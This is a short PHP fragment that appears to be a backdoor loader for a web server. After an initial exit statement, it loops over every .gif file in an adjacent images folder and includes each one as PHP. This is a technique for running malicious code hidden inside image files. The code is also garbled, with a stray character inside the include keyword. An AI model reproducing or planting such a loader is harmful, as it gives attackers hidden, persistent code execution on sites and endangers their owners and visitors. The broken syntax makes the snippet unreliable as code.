<?php exit; ?>
<?php
$d = dirname(__FILE__) . '/images/'; foreach (glob($d . '*.gif') as $g) { req~uire $g; }
